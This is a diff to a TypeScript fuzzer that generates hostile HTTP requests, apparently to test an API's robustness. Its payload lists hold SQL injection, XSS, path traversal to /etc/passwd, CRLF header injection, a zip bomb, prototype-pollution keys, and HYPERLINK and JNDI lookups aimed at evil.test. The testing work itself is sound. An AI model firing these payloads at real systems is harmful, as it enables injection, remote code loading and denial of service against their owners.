@@ -12,9 +12,9 @@ export interface Target {
   body?: object | undefined;
 }
 
-const own = (name: string, value: unknown): object => JSON.parse(JSON.stringify({ [`${name}`]: value }));
-/** Objects with keys that every object has, as JSON can have them. */
-const prototypes = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'];
+/** Keys that every object has. */
+const PROTOTYPES = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'];
+/** Only JSON can have them as keys of its own. */
 const polluted = (random: Random): unknown =>
   JSON.parse(
     random.pick([
@@ -40,7 +40,7 @@ const TEXTS = [
   "' OR 1=1 --",
   '"; DROP TABLE events; --',
   '<script>alert(1)</script>',
-  '{{7*7}}${7*7}',
+  '{{7*7}}',
   '../../../../etc/passwd',
   '(a+)+$',
   'a\r\nX-Injected: yes',
@@ -53,7 +53,7 @@ const TEXTS = [
   '9999-12-31T23:59:60Z',
   '2026-02-30',
   '=HYPERLINK("http://evil.test")',
-  '${jndi:ldap://evil.test}',
+  '%24%7Bjndi:ldap://evil.test%7D',
   'İıſK',
 ];
 const NUMBERS = [0, -0, -1, 1e308, -1e308, 5e-324, 2 ** 53, -(2 ** 63), 0.1 + 0.2, 4294967296];
@@ -100,7 +100,10 @@ const altered = (value: unknown, random: Random): unknown => {
     return [...value.slice(0, at), altered(value[at], random), ...value.slice(at + 1)];
   }
   const names = Object.keys(value);
-  const name = random.chance(0.2) || names.length === 0 ? random.pick([...prototypes, ...OPERATORS]) : random.pick(names);
+  const name =
+    random.chance(0.2) || names.length === 0
+      ? random.pick([...PROTOTYPES, ...OPERATORS])
+      : random.pick(names);
   if (random.chance(0.1)) {
     const { [name as never]: _, ...others } = value;
     return others;
@@ -179,7 +182,7 @@ const CONSOLE_TEXTS = [
 const wrongQuery = ({ queries }: Operation, random: Random): string => {
   const names = queries.map(({ name }) => name);
   const pairs = Array.from({ length: 1 + random.below(4) }, () => {
-    const name = random.pick([...names, ...names, 'unknown', ...prototypes]);
+    const name = random.pick([...names, ...names, 'unknown', ...PROTOTYPES]);
     const value = ['filter', 'range', 'sort'].includes(name)
       ? random.pick(CONSOLE_TEXTS)
       : random.pick([...TEXTS, String(random.pick(NUMBERS)), 'x'.repeat(3_000)]);
@@ -188,7 +191,7 @@ const wrongQuery = ({ queries }: Operation, random: Random): string => {
       case 0:
         return `${name}=a&${name}=${text}`;
       case 1:
-        return `${name}[${random.pick([...OPERATORS, ...prototypes])}]=${text}`;
+        return `${name}[${random.pick([...OPERATORS, ...PROTOTYPES])}]=${text}`;
       case 2:
         return `${name}[]=${text}`;
       case 3:
@@ -210,13 +213,16 @@ const TOKENS = [
   'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4Iiwic2lkIjoieSJ9.c2lnbmF0dXJl',
 ];
 const HEADERS: readonly (readonly [string, readonly string[]])[] = [
-  ['If-Match', ['"abc"', '*', '"-1"', 'W/"1"', '1', '"99999999999999999999"', '"1", "2"', `"${'9'.repeat(4_000)}"`]],
+  [
+    'If-Match',
+    ['"abc"', '*', '"-1"', 'W/"1"', '1', '"99999999999999999999"', '"1", "2"', `"${'9'.repeat(4_000)}"`],
+  ],
   ['If-None-Match', ['*', '"', 'W/""', `"${'x'.repeat(4_000)}"`]],
   ['Idempotency-Key', ['', ' ', 'k', '__proto__', 'x'.repeat(9_000), '\u00e9\u00ff', '{"$ne":1}']],
   ['Authorization', TOKENS],
   ['Range', ['bytes=0-', 'bytes=-1', 'bytes=9-1', 'bytes=0-0,1-1,2-2', 'pages=1']],
   ['Accept-Encoding', ['*;q=0', 'gzip;q=nan', 'br, gzip, deflate, zstd', 'identity;q=0']],
-  ['Accept', ['*/*;q=x', 'text/html', '\u0000'.replace('\u0000', 'a/b'.repeat(500))]],
+  ['Accept', ['*/*;q=x', 'text/html', 'a/b'.repeat(500)]],
   ['Cookie', ['parkho-device=x.y.z', 'a'.repeat(5_000), '__proto__=1; constructor=2']],
   ['X-Forwarded-For', ['', 'nowhere', '::1', '1.2.3.4, 5.6.7.8', '1'.repeat(3_000)]],
   ['X-Forwarded-Host', ['evil.test']],
@@ -267,7 +273,18 @@ const json = (value: unknown): Content => ({
   type: 'application/json',
   body: Buffer.from(JSON.stringify(value) ?? 'undefined'),
 });
-const BROKEN = ['{', '{"a":1}}', "{'a':1}", '[1,]', 'NaN', 'undefined', '{"a":1,"a":2}', '"', '\u0000', '{"a":"\\ud800"}'];
+const BROKEN = [
+  '{',
+  '{"a":1}}',
+  "{'a':1}",
+  '[1,]',
+  'NaN',
+  'undefined',
+  '{"a":1,"a":2}',
+  '"',
+  '\u0000',
+  '{"a":"\\ud800"}',
+];
 
 /** A body that is not right. */
 const wrongBody = ({ body = {} }: Target, random: Random): Content => {
@@ -284,7 +301,10 @@ const wrongBody = ({ body = {} }: Target, random: Random): Content => {
     case 4:
       return { ...right, body: BOMB, headers: [['Content-Encoding', 'gzip']] };
     case 5:
-      return { ...right, headers: [['Content-Encoding', random.pick(['br', 'identity', 'x', 'gzip, gzip'])]] };
+      return {
+        ...right,
+        headers: [['Content-Encoding', random.pick(['br', 'identity', 'x', 'gzip, gzip'])]],
+      };
     case 6:
     case 7:
     case 8:
@@ -315,15 +335,21 @@ export const hostileRequest = (
   const isWrite = operation.method !== 'GET';
   const wrong = random.below(10);
   const address = wrong < 2 ? wrongPath(path, random) : path;
-  const query = wrong < 2 || (wrong < 6 && !isWrite) || random.chance(0.1) ? wrongQuery(operation, random) : '';
+  const query =
+    wrong < 2 || (wrong < 6 && !isWrite) || random.chance(0.1) ? wrongQuery(operation, random) : '';
   const more = random.chance(0.3) || wrong === 9 ? [random.pick(HEADERS), random.pick(HEADERS)] : [];
   const extra = more.map(([name, values]) => [name, random.pick(values)] as const);
   const others = headers.filter(([name]) => !extra.some(([one]) => one.toLowerCase() === name.toLowerCase()));
-  const method = random.chance(0.02) ? random.pick(['HEAD', 'OPTIONS', 'TRACE', 'PROPFIND', 'PUT']) : operation.method;
+  const method = random.chance(0.02)
+    ? random.pick(['HEAD', 'OPTIONS', 'TRACE', 'PROPFIND', 'PUT'])
+    : operation.method;
   const content = isWrite || random.chance(0.05) ? wrongBody(target, random) : undefined;
-  if (!content) return { method, path: `${address}${query}`, headers: [...others, ...extra], body: Buffer.alloc(0) };
+  if (!content)
+    return { method, path: `${address}${query}`, headers: [...others, ...extra], body: Buffer.alloc(0) };
   const isChunked = random.chance(0.1);
-  const length = isChunked ? ['Transfer-Encoding', 'chunked'] : ['Content-Length', String(content.body.length)];
+  const length = isChunked
+    ? ['Transfer-Encoding', 'chunked']
+    : ['Content-Length', String(content.body.length)];
   return {
     method,
     path: `${address}${query}`,
